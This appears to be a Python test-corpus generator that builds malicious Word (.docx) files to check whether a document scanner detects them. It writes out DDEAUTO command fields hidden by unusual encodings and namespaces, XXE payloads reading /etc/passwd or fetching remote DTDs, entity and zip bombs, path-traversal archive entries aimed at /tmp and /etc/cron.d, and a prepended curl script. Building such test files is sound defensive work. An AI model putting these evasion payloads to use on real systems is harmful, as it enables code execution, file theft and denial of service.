"""Attacks on the layers below OOXML: encodings, namespaces, entities, and the archive itself."""

import io
import struct
import zipfile

from attack import HOST, RELATION, XML, Attack, W, docx, paragraph, text, types, zipped
from attack_parts import parts, relationships
from attack_word import OLE, STRICT, field, fields

EVIL = paragraph(field(f" DDEAUTO cmd {HOST}"))


def whole(body: str, head: str = XML, names: str = "", prefix: str = "w", space: str = W) -> str:
    """A main part of its own making."""
    document = f'<w:document xmlns:w="{space}" xmlns:r="{RELATION}" {names}><w:body>{paragraph(text("汐見市"))}{body}</w:body></w:document>'
    return head + document.replace("<w:", f"<{prefix}:").replace("</w:", f"</{prefix}:").replace(
        "xmlns:w=", f"xmlns:{prefix}="
    ).replace(" w:", f" {prefix}:")


def layers():
    plain = whole(EVIL, '<?xml version="1.0" encoding="UTF-16"?>')
    yield "utf16", "DDE in UTF-16 with its mark", docx("", raw=plain.encode("utf-16"))
    yield "utf16-be", "DDE in UTF-16, the other order", docx("", raw=b"\xfe\xff" + plain.encode("utf-16-be"))
    yield (
        "utf16-no-mark",
        "DDE in UTF-16 without a mark",
        docx("", raw=plain.replace("UTF-16", "UTF-16LE").encode("utf-16-le")),
    )
    yield "utf8-mark", "DDE behind a byte order mark", docx("", raw="\ufeff" + whole(EVIL))
    yield "utf7", "DDE in UTF-7", docx("", raw=whole(EVIL, '<?xml version="1.0" encoding="UTF-7"?>').encode("utf-7"))
    yield (
        "shift-jis",
        "DDE in a part in Shift_JIS",
        docx("", raw=whole(EVIL, '<?xml version="1.0" encoding="Shift_JIS"?>').encode("cp932")),
    )
    yield (
        "ebcdic",
        "DDE in a part in EBCDIC",
        docx("", raw=whole(EVIL, '<?xml version="1.0" encoding="IBM037"?>').replace("汐見市", "x").encode("cp037")),
    )
    yield "strict", "DDE in the Strict namespace", docx("", raw=whole(EVIL, space=STRICT))
    yield "prefix", "DDE under another prefix", docx("", raw=whole(EVIL, prefix="zz"))
    yield (
        "prefix-default",
        "DDE in the default namespace",
        docx(
            "",
            raw=f'{XML}<document xmlns="{W}" xmlns:w="{W}"><body><p><r><t>汐見市</t></r></p><p><fldSimple w:instr=" DDEAUTO cmd {HOST}"/></p></body></document>',
        ),
    )
    yield (
        "prefix-shadow",
        "a prefix bound anew inside",
        docx("", raw=whole(f'<w:p xmlns:q="{W}"><q:fldSimple q:instr=" DDEAUTO cmd {HOST}"/></w:p>')),
    )
    yield "wrapped", "DDE inside an unknown element", docx("", raw=whole(f'<x:y xmlns:x="urn:x">{EVIL}</x:y>'))
    yield (
        "ignorable",
        "DDE inside an ignorable element",
        docx(
            "",
            raw=whole(
                f"<x:y>{EVIL}</x:y>",
                names='xmlns:x="urn:x" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="x" mc:ProcessContent="x:y"',
            ),
        ),
    )
    doctype = f'<!DOCTYPE w:document [<!ENTITY d "DDEAUTO cmd {HOST}">]>'
    yield "entity", "DDE from an entity", docx("", raw=whole(paragraph(field("&d;")), XML + doctype))
    yield (
        "xxe",
        "an entity from a file",
        docx("", raw=whole(paragraph(text("&x;")), XML + '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
    )
    yield (
        "xxe-parameter",
        "a parameter entity from the net",
        docx("", raw=whole("", XML + f'<!DOCTYPE w [<!ENTITY % x SYSTEM "http://{HOST}/x.dtd"> %x;]>')),
    )
    yield "dtd", "a DTD from the net", docx("", raw=whole("", XML + f'<!DOCTYPE w SYSTEM "http://{HOST}/x.dtd">'))
    bomb = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "x" * 10}">' for n in range(9))
    yield (
        "entity-bomb",
        "entities that grow",
        docx("", raw=whole(paragraph(text("&a8;")), XML + f"<!DOCTYPE w [{bomb}]>")),
    )
    yield (
        "stylesheet",
        "a style sheet instruction",
        docx("", raw=whole("", XML + f'<?xml-stylesheet type="text/xsl" href="http://{HOST}/x.xsl"?>')),
    )
    yield (
        "pi-mso",
        "mso-application instruction",
        docx("", raw=whole("", XML + '<?mso-application progid="Word.Document"?>')),
    )
    yield "xml-base", "xml:base to another machine", docx("", raw=whole("", names=f'xml:base="http://{HOST}/"'))
    yield (
        "xinclude",
        "XInclude",
        docx("", raw=whole(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://{HOST}/x"/>')),
    )
    yield (
        "schema-location",
        "schemaLocation",
        docx(
            "",
            raw=whole(
                "",
                names=f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x http://{HOST}/x.xsd"',
            ),
        ),
    )
    yield (
        "deep",
        "elements 20,000 deep",
        docx("", raw=whole("<w:sdt><w:sdtContent>" * 10000 + "</w:sdtContent></w:sdt>" * 10000)),
    )
    yield "comment-host", "a comment with an address", docx("", raw=whole(f"<!-- http://{HOST}/ -->"))


def archive():
    clean, evil = whole(""), whole(EVIL)
    yield "zip-twice", "the main part twice, the evil one last", docx("", extra=[("word/document.xml", evil)])
    yield "zip-case", "the main part twice, in other letters", docx("", extra=[("WORD/Document.xml", evil)])
    yield "zip-backslash", "a part with a backslash in its name", docx("", extra=[("word\\vbaProject.bin", OLE)])
    yield "zip-parent", "a part that climbs out", docx("", extra=[("../../../tmp/evil.sh", "#!/bin/sh")])
    yield "zip-absolute", "a part with an absolute name", docx("", extra=[("/etc/cron.d/evil", "x")])
    yield "zip-percent", "a part with an encoded name", docx("", extra=[("word/%76baProject.bin", OLE)])
    yield (
        "zip-types-twice",
        "two lists of content types",
        docx(
            "",
            extra=[
                (
                    "[Content_Types].xml",
                    types({"/word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}, {}),
                )
            ],
        ),
    )
    data = docx("", raw=clean)
    yield "zip-behind", "bytes behind the archive", data + b"MZ" + HOST.encode()
    yield "zip-before", "bytes before the archive", b"#!/bin/sh\ncurl " + HOST.encode() + b"\n" + data
    yield (
        "zip-comment",
        "an archive comment with a program",
        zipped(
            [
                (e.filename, zipfile.ZipFile(io.BytesIO(data)).read(e))
                for e in zipfile.ZipFile(io.BytesIO(data)).infolist()
            ],
            comment=b"MZ" + HOST.encode(),
        ),
    )
    yield "zip-two-archives", "two archives one behind the other", docx("", raw=evil) + data
    yield (
        "zip-local-name",
        "local header with another name",
        data.replace(b"PK\x03\x04", b"PK\x03\x04", 1)[:30]
        + data[30:].replace(b"word/styles.xml", b"word/vbaProj.bin"[:15], 1),
    )
    central = data.rindex(b"PK\x01\x02")
    yield "zip-encrypted-flag", "encrypted flag set", data[: central + 8] + struct.pack("<H", 1) + data[central + 10 :]
    yield "zip-size-lie", "sizes that are not true", data[: central + 24] + struct.pack("<I", 5) + data[central + 28 :]
    yield (
        "zip-crc-lie",
        "a checksum that is not true",
        data[: central + 16] + struct.pack("<I", 5) + data[central + 20 :],
    )
    bomb = b"<!-- " + b" " * (40 << 20) + b"-->"
    yield "zip-bomb", "40 MiB of nothing", docx("", extra=[("word/big.xml", bomb)])
    yield (
        "docm",
        "a macro document under the name docx",
        docx(
            "",
            parts={"word/vbaProject.bin": OLE},
            kind="application/vnd.ms-word.document.macroEnabled.main+xml",
            defaults={"bin": "application/vnd.ms-office.vbaProject"},
        ),
    )
    other = docx("", extra=[("word/other.xml", evil), ("customXml/item1.xml", f"<a>{HOST}</a>")])
    yield "orphans", "parts that nothing refers to", other


# What is wrong with these is the structure, or a mere leftover: the file itself does nothing.
UNSEEN = set("comment-host schema-location xml-base xinclude".split())


def attacks():
    for name, what, body in fields():
        yield Attack(f"docx/{name}.docx", what, docx(body))
    for make in (relationships, parts, layers, archive):
        for name, what, data in make():
            yield Attack(f"docx/{name}.docx", what, data, seen=name not in UNSEEN)
    yield Attack("docx/plain.docx", "nothing", docx(paragraph(text("広報 潮風 第3号"))), control=True, seen=False)
    page = paragraph(field(" PAGE ")) + paragraph('<w:hyperlink r:id="rId1">' + text("市の頁") + "</w:hyperlink>")
    yield Attack(
        "docx/plain-link.docx",
        "a page number and a link",
        docx(page, [("rId1", "hyperlink", "https://city.example/", "External")]),
        control=True,
        seen=False,
    )
